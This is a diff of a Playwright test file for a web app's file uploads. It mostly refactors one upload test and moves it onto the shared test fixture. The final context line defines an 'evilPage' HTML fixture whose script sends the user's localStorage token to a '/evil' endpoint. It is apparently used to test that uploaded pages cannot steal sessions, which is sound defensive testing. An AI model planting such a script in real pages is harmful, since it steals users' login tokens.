@@ -3,8 +3,7 @@ import { cast, makePerson, tokenOf } from '../support/cast.ts'
 import { expectNoAxeViolations, expectNoSidewaysScrollingAt } from '../support/looks.ts'
 import { makeProject, openResources, panelsOf } from '../support/projects.ts'
 import { pdfFile, pngFile, textFile } from '../support/sample-files.ts'
-import { test } from '../support/shared-browser.ts'
-import { expect, storeToken, test as testInOwnBrowser } from '../support/test.ts'
+import { expect, storeToken, test } from '../support/test.ts'
 
 /** Answers the question that a click has opened. */
 async function confirm(page: Page, question: string, button: string) {
@@ -130,71 +129,73 @@ test('a file and a link: a manager marks them, an admin restores them; marked ag
   await expect(files.getByText('No files uploaded')).toBeVisible()
 })
 
-testInOwnBrowser(
-  'uploads: several at once, of which one is too large and one empty; progress, cancelling and dropping',
-  async ({ page, app, request, consoleWatch }) => {
-    consoleWatch.allow(/status of (413|400)/, /This file is (larger than 1 MB|empty)\./)
-    const server = await app.startFresh({ admin: cast.ada, env: { MAX_UPLOAD_MB: '1' } })
-    const token = await tokenOf(request, server.url, cast.ada)
-    await storeToken(page, server.url, token)
-    const project = await makeProject(request, server.url, token, { name: 'Uploads' })
-    const { files } = await openResources(page, project, server.url)
-    const list = files.getByRole('list', { name: `Files for ${project.name}` })
-    const picker = files.getByLabel(`Upload files to ${project.name}`)
-    await expect(files.getByText('No files uploaded')).toBeVisible()
+test('uploads: several at once, of which one is too large and one empty; progress, cancelling and dropping', async ({
+  page,
+  app,
+  request,
+  consoleWatch,
+}) => {
+  consoleWatch.allow(/status of (413|400)/, /This file is (larger than 1 MB|empty)\./)
+  const server = await app.startFresh({ admin: cast.ada, env: { MAX_UPLOAD_MB: '1' } })
+  const token = await tokenOf(request, server.url, cast.ada)
+  await storeToken(page, server.url, token)
+  const project = await makeProject(request, server.url, token, { name: 'Uploads' })
+  const { files } = await openResources(page, project, server.url)
+  const list = files.getByRole('list', { name: `Files for ${project.name}` })
+  const picker = files.getByLabel(`Upload files to ${project.name}`)
+  await expect(files.getByText('No files uploaded')).toBeVisible()
 
-    await test.step('an upload shows how far it is and can be cancelled', async () => {
-      // Held back by the test: it never arrives.
-      await page.route(`**/api/projects/${project.id}/files`, route =>
-        route.request().method() === 'POST' ? undefined : route.continue(),
-      )
-      await picker.setInputFiles(textFile('slow.txt', 'Slow'))
-      await expect(files.getByRole('progressbar', { name: 'Uploading slow.txt' })).toBeVisible()
-      await expectNoAxeViolations(page)
-      await files.getByRole('button', { name: 'Cancel upload of slow.txt' }).click()
-      await expect(files.getByRole('progressbar')).toHaveCount(0)
-      await page.unrouteAll({ behavior: 'ignoreErrors' })
+  await test.step('an upload shows how far it is and can be cancelled', async () => {
+    // Held back by the test: it never arrives.
+    await page.route(`**/api/projects/${project.id}/files`, route =>
+      route.request().method() === 'POST' ? undefined : route.continue(),
+    )
+    await picker.setInputFiles(textFile('slow.txt', 'Slow'))
+    await expect(files.getByRole('progressbar', { name: 'Uploading slow.txt' })).toBeVisible()
+    await expectNoAxeViolations(page)
+    await files.getByRole('button', { name: 'Cancel upload of slow.txt' }).click()
+    await expect(files.getByRole('progressbar')).toHaveCount(0)
+    await page.unrouteAll({ behavior: 'ignoreErrors' })
+  })
+
+  await test.step('a file can be dropped', async () => {
+    const dropped = await page.evaluateHandle(() => {
+      const transfer = new DataTransfer()
+      transfer.items.add(new File(['Dropped'], 'dropped.txt'))
+      return transfer
     })
+    await files.dispatchEvent('dragover', { dataTransfer: dropped })
+    await expect(page.getByText('Drop to upload')).toBeVisible()
+    await files.dispatchEvent('drop', { dataTransfer: dropped })
+    await expect(list.getByRole('listitem')).toContainText('dropped.txt')
+    await expect(page.getByText('Drop to upload')).toBeHidden()
+  })
 
-    await test.step('a file can be dropped', async () => {
-      const dropped = await page.evaluateHandle(() => {
-        const transfer = new DataTransfer()
-        transfer.items.add(new File(['Dropped'], 'dropped.txt'))
-        return transfer
-      })
-      await files.dispatchEvent('dragover', { dataTransfer: dropped })
-      await expect(page.getByText('Drop to upload')).toBeVisible()
-      await files.dispatchEvent('drop', { dataTransfer: dropped })
-      await expect(list.getByRole('listitem')).toContainText('dropped.txt')
-      await expect(page.getByText('Drop to upload')).toBeHidden()
-    })
+  await test.step('several at once, one too large and one empty: the others are there', async () => {
+    await picker.setInputFiles([
+      textFile('one.txt', 'One'),
+      { name: 'huge.bin', mimeType: 'application/octet-stream', buffer: Buffer.alloc(3 * 1024 * 1024, 1) },
+      textFile('empty.txt', ''),
+      textFile('two.txt', 'Two'),
+    ])
+    await expect(files.getByText('One or more file uploads failed.')).toBeVisible()
+    await expect(list.getByRole('listitem')).toHaveCount(3)
+    await expect(list).toContainText('one.txt')
+    await expect(list).toContainText('two.txt')
+    const uploads = files.getByRole('list', { name: 'Uploads' })
+    await expect(uploads.getByRole('listitem').filter({ hasText: 'huge.bin' })).toContainText(
+      'This file is larger than 1 MB.',
+    )
+    await expect(uploads.getByRole('listitem').filter({ hasText: 'empty.txt' })).toContainText(
+      'This file is empty.',
+    )
+    await expectNoAxeViolations(page)
 
-    await test.step('several at once, one too large and one empty: the others are there', async () => {
-      await picker.setInputFiles([
-        textFile('one.txt', 'One'),
-        { name: 'huge.bin', mimeType: 'application/octet-stream', buffer: Buffer.alloc(3 * 1024 * 1024, 1) },
-        textFile('empty.txt', ''),
-        textFile('two.txt', 'Two'),
-      ])
-      await expect(files.getByText('One or more file uploads failed.')).toBeVisible()
-      await expect(list.getByRole('listitem')).toHaveCount(3)
-      await expect(list).toContainText('one.txt')
-      await expect(list).toContainText('two.txt')
-      const uploads = files.getByRole('list', { name: 'Uploads' })
-      await expect(uploads.getByRole('listitem').filter({ hasText: 'huge.bin' })).toContainText(
-        'This file is larger than 1 MB.',
-      )
-      await expect(uploads.getByRole('listitem').filter({ hasText: 'empty.txt' })).toContainText(
-        'This file is empty.',
-      )
-      await expectNoAxeViolations(page)
-
-      await uploads.getByRole('button', { name: 'Dismiss huge.bin' }).click()
-      await uploads.getByRole('button', { name: 'Dismiss empty.txt' }).click()
-      await expect(files.getByText('One or more file uploads failed.')).toBeHidden()
-    })
-  },
-)
+    await uploads.getByRole('button', { name: 'Dismiss huge.bin' }).click()
+    await uploads.getByRole('button', { name: 'Dismiss empty.txt' }).click()
+    await expect(files.getByText('One or more file uploads failed.')).toBeHidden()
+  })
+})
 
 const evilPage = `<!doctype html><title>Harmless</title><h1>An uploaded page</h1>
 <script>document.title = 'Taken over'; fetch('/evil?' + localStorage.getItem('token'))</script>
